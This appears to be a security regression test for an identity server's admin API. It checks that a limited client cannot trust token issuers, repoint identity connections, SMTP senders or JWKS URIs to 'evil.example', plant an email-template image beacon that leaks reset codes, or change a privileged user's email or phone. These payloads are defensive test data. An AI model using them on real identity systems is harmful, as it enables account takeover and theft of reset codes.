import assert from "node:assert/strict";
import { after, before, describe, it } from "node:test";
import { SYSTEM_APIS } from "../../src/protocol/system-apis.ts";
import { basic, TestClient } from "../client.ts";
import { startServer, type TestServer } from "../server.ts";
import { organizationsWith } from "../tenant-data.ts";
import { ADMIN_SECRET, type ApiClient, adminApplication, apiClient, apiClientWith } from "./api-client.ts";
import { idOfUser } from "./own-account.ts";

const V1 = "/api/server/v1";
const PROVIDERS = `${V1}/identity-providers`;
const ISSUERS = `${V1}/trusted-token-issuers`;
const SENDERS = `${V1}/notification-senders`;
const idOf = (name: string) => Buffer.from(name).toString("base64url");
const TEMPLATES = `${V1}/notification/email/template-types/${idOf("PasswordReset")}/org-templates`;
const OIDC = idOf("OpenIDConnectAuthenticator");
const ASSOCIATE = "internal_user_association_create";

/** What the helper may call: connections, messages and users. */
const APIS = SYSTEM_APIS.filter(({ identifier }) =>
  [PROVIDERS, SENDERS, `${V1}/email`, `${V1}/notification`, "/scim2/Users"].includes(identifier),
);
const SCOPES = APIS.flatMap(({ scopes }) => scopes);

const provider = (name: string, more: object = {}) => ({
  name,
  certificate: { jwksUri: "https://idp.example/jwks" },
  federatedAuthenticators: {
    defaultAuthenticatorId: OIDC,
    authenticators: [{ authenticatorId: OIDC, isEnabled: true, properties: properties("https://idp.example") }],
  },
  ...more,
});

function properties(origin: string) {
  const values = {
    ClientId: "tessera",
    ClientSecret: "the secret of the connection",
    OAuth2AuthzEPUrl: `${origin}/authorize`,
    OAuth2TokenEPUrl: `${origin}/token`,
  };
  return Object.entries(values).map(([key, value]) => ({ key, value }));
}

describe("whoever says whom people are taken for may do what these may (security bar 23.2)", () => {
  let server: TestServer;
  let api: ApiClient;
  /** May manage connections, messages and users, and nothing else. */
  let helper: ApiClient;
  let kim: string;
  let lee: string;
  before(async () => {
    const limited = {
      ...adminApplication,
      clientId: "helper",
      authorizedAPIs: APIS.map(({ identifier, scopes }) => ({ identifier, scopes })),
    };
    const [acme, ...others] = organizationsWith(adminApplication, limited);
    server = await startServer({
      organizations: [{ ...acme, roles: [{ displayName: "Administrator", users: ["kim"] }] }, ...others],
    });
    api = await apiClient(server, [...SCOPES, ASSOCIATE]);
    const form = { grant_type: "client_credentials", scope: SCOPES.join(" ") };
    const { body } = await new TestClient(server, "helper").token(form, basic("helper", ADMIN_SECRET));
    helper = apiClientWith(server, body.access_token);
    [kim, lee] = [await idOfUser(server, "kim"), await idOfUser(server, "lee")];
  });
  after(() => server.stop());

  const status = async (client: ApiClient, method: string, path: string, body?: unknown) =>
    (await client.call(method, path, body)).status;

  it("lets nobody else trust an issuer of tokens, or change one", async () => {
    const entry = { name: "Trusted", issuer: "https://i.example", certificate: { jwksUri: "https://i.example/jwks" } };
    assert.equal(await status(helper, "POST", ISSUERS, entry), 403);
    const { body } = await api.call("POST", ISSUERS, entry);
    const keys = [{ operation: "REPLACE", path: "/certificate/jwksUri", value: "https://evil.example/jwks" }];
    const refused = await helper.call("PATCH", `${ISSUERS}/${body.id}`, keys);
    assert.deepEqual([refused.status, refused.body.code], [403, "UE-10000"]);
    assert.equal(await status(api, "PATCH", `${ISSUERS}/${body.id}`, keys), 200);
  });

  const vouching = [
    ["recognises people by attributes", { implicitAssociation: { isEnabled: true, lookupAttribute: ["email"] } }],
    [
      "takes people with an account for these",
      { provisioning: { jit: { isEnabled: true, associateLocalUser: true } } },
    ],
    ["gives roles", { roles: { mappings: [{ idpRole: "boss", localRole: "Administrator" }] } }],
  ] as const;
  for (const [what, more] of vouching) {
    it(`lets nobody else make a connection that ${what}, or change one`, async () => {
      assert.equal(await status(helper, "POST", PROVIDERS, provider(`Refused ${what}`, more)), 403);
      const made = await api.call("POST", PROVIDERS, provider(what, more));
      assert.equal(made.status, 201, JSON.stringify(made.body));
      const rename = [{ operation: "REPLACE", path: "/certificate/jwksUri", value: "https://evil.example/jwks" }];
      assert.equal(await status(helper, "PATCH", `${PROVIDERS}/${made.body.id}`, rename), 403);
    });
  }

  it("lets others manage connections that only bring new people, until somebody with an account is known there", async () => {
    const made = await helper.call("POST", PROVIDERS, provider("Fresh"));
    assert.equal(made.status, 201, JSON.stringify(made.body));
    const one = `${PROVIDERS}/${made.body.id}`;
    const authenticator = `${one}/federated-authenticators/${OIDC}`;
    const elsewhere = { isEnabled: true, properties: properties("https://evil.example") };
    assert.equal(await status(helper, "PUT", authenticator, elsewhere), 200);
    assert.equal(await status(helper, "PUT", `${one}/roles`, vouching[2][1].roles), 403);
    assert.equal(await status(helper, "PUT", `${one}/provisioning/jit`, vouching[1][1].provisioning.jit), 403);
    const association = { idp: "Fresh", federatedUserId: "kim-there" };
    assert.equal(await status(api, "POST", `/api/users/v1/${kim}/federated-associations`, association), 200);
    assert.equal(await status(helper, "PUT", authenticator, elsewhere), 403);
    assert.equal(await status(api, "PUT", authenticator, elsewhere), 200);
  });

  it("lets nobody else say by what messages go out: they hold what passwords are reset with", async () => {
    const sender = { smtpServerHost: "mail.example", smtpPort: 25, fromAddress: "a@mail.example" };
    assert.equal(await status(helper, "POST", `${SENDERS}/email`, sender), 403);
    assert.equal(await status(api, "POST", `${SENDERS}/email`, sender), 201);
    const elsewhere = { ...sender, smtpServerHost: "evil.example" };
    assert.equal(await status(helper, "PUT", `${SENDERS}/email/EmailPublisher`, elsewhere), 403);
  });

  it("lets nobody else write messages: a picture in one could carry its code away", async () => {
    const content = { contentType: "text/html", subject: "s", body: "<img src='https://evil.example/{{x}}'>" };
    assert.equal(await status(helper, "POST", TEMPLATES, { ...content, locale: "en_US" }), 403);
    assert.equal(await status(api, "POST", TEMPLATES, { ...content, locale: "en_US" }), 201);
    assert.equal(await status(helper, "PUT", `${TEMPLATES}/en_US`, content), 403);
  });

  const means = [
    ["address", { emails: ["helper@evil.example"] }],
    ["telephone number", { phoneNumbers: [{ type: "mobile", value: "+15550100" }] }],
  ] as const;
  for (const [what, value] of means) {
    it(`lets nobody change the ${what} of a user who may do more: codes go there`, async () => {
      const patch = { Operations: [{ op: "replace", value }] };
      assert.equal(await status(helper, "PATCH", `/scim2/Users/${kim}`, patch), 403);
      assert.equal(await status(helper, "PATCH", `/scim2/Users/${lee}`, patch), 200);
    });
  }

  it("lets others change what nobody is found by", async () => {
    const patch = { Operations: [{ op: "replace", value: { nickName: "K" } }] };
    assert.equal(await status(helper, "PATCH", `/scim2/Users/${kim}`, patch), 200);
  });
});
